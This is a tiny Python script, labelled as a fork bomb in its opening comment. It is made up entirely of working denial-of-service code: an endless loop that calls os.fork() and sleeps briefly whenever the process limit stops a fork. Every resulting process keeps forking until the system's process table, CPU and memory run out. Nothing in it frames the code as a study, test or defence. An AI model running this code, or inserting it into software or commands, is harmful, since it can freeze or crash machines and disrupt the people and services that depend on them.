# A fork bomb: every process forks for ever; failures (the process limit) are ignored.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
